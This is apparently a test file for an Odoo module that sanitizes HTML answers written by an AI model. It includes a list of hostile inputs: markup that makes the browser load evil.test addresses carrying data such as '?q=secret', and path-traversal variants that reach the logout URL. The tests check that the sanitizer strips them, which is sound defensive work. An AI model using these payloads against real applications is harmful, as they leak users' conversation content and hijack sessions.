from odoo.tests import BaseCase, tagged

from ..tools.answer_html import answer_html
from ..tools.html_text import html_to_text


@tagged("post_install", "-at_install")
class TestAnswerHtml(BaseCase):
    def test_nothing_loads_by_itself(self):
        """An address that the reader's browser calls can carry words of the conversation away."""
        for html in (
            '<img src="https://evil.test/?q=secret" alt="A cat" srcset="https://evil.test/2 2x">',
            '<p><img src="//evil.test/x" alt="A cat"></p>',
            '<img src="/web/image/../session/logout" alt="A cat">',
            '<img src="/web/image/.%2e/session/logout" alt="A cat">',
            '<img src="/web/image/.\t./session/logout" alt="A cat">',
            '<img src="/web/session/logout" alt="A cat">',
            '<img src="data:image/svg+xml;base64,AAAA" alt="A cat">',
            '<IMG SRC=" https://evil.test/x" ALT="A cat">',
            '<a href="https://page.test/"><img src="https://evil.test/x" alt="A cat"></a>',
            '<table background="https://evil.test/x"><tr><td background="//evil.test">A cat</td></tr></table>',
            '<p style="background: url(https://evil.test/x)">A cat</p>',
            '<div style="list-style: URL(//evil.test)">A cat</div>',
            '<video src="https://evil.test/x" poster="https://evil.test/y" autoplay>A cat</video>',
            '<audio src="https://evil.test/x" autoplay>A cat</audio>',
            '<picture><source srcset="https://evil.test/x"><img src="https://evil.test/y" alt="A cat"></picture>',
            '<svg><image href="https://evil.test/x"/></svg>A cat',
            '<input type="image" src="https://evil.test/x">A cat',
            '<iframe src="https://evil.test/x"></iframe>A cat',
            '<object data="https://evil.test/x"></object><embed src="https://evil.test/y">A cat',
            '<link rel="stylesheet" href="https://evil.test/x">A cat',
            "<style>p {background: url(https://evil.test/x)}</style><p>A cat</p>",
            '<body background="https://evil.test/x">A cat</body>',
            '<!--[if IE]><img src="https://evil.test/x"><![endif]-->A cat',
            '<noscript><img src="https://evil.test/x"></noscript>A cat',
        ):
            safe = str(answer_html(html))
            for loading in ("src=", "srcset", "url(", "background", "poster", "<image", "<link", "<input", "logout"):
                self.assertNotIn(loading, safe.lower(), html)
            self.assertIn("A cat", html_to_text(safe), html)

    def test_a_picture_elsewhere_is_a_link_with_its_words(self):
        link = answer_html('<p>See <img src="https://x.test/a.png?b=1" alt="A cat"> here</p>')
        self.assertEqual(html_to_text(link), "See A cat (https://x.test/a.png?b=1) here")
        self.assertIn("https://x.test/a.png", html_to_text(answer_html('<img src="https://x.test/a.png">')))

    def test_pictures_of_this_odoo_and_in_the_answer_itself_stay(self):
        for source in ("/web/image/7?width=20", "/web/content/8/a.png", "data:image/png;base64,iVBORw0KGgo="):
            self.assertIn(f'src="{source}"', answer_html(f'<p><img src="{source}" alt="x"></p>'))

    def test_an_answer_wears_no_other_clothes(self):
        """Neither a button of ours that the model made up, nor a layer over the page."""
        html = '<a href="/x" class="o_ai_retry position-fixed" data-oe-id="7" data-oe-model="x" style="top:0">Go</a>'
        safe = answer_html(html)
        for name in ("o_ai_retry", "position-fixed", "data-oe", "style"):
            self.assertNotIn(name, safe)

    def test_markdown_stays(self):
        for html in (
            "<h2>Title</h2>",
            '<pre><code class="language-python">a = 1\n</code></pre>',
            '<ol start="3"><li><p><strong>b</strong> <em>i</em> <del>d</del></p></li></ol>',
        ):
            self.assertEqual(str(answer_html(html)).strip(), html)

    def test_a_table_has_lines_and_scrolls_by_itself(self):
        table = '<tr><th align="right">a</th></tr><tr><td>1</td></tr>'
        safe = str(answer_html(f"<p>Before</p><table>{table}</table><p>After</p>"))
        self.assertRegex(safe, r'<div class="o_ai_wide table-responsive[^"]*"><table class="[^"]*table-bordered[^"]*">')
        self.assertEqual(html_to_text(safe), "Before\n\na\n1\nAfter")

    def test_a_long_answer_is_folded(self):
        """Nothing is lost, and what is shown is whole blocks."""
        html = "".join(f"<p>{number} {'word ' * 20}</p>" for number in range(30))
        safe = str(answer_html(html, "Show More"))
        shown, folded = safe.split('<details class="o_ai_more"><summary>Show More</summary>')
        self.assertLess(len(html_to_text(shown)), 1_000)
        self.assertEqual(shown.count("<p>") + folded.count("<p>"), 30)
        self.assertIn("29 word", folded)

    def test_a_short_answer_and_one_block_are_not(self):
        for html in ("<p>Short.</p><p>Answer.</p>", f"<pre>{'line ' * 1_000}</pre>"):
            self.assertNotIn("<details", answer_html(html, "Show More"))
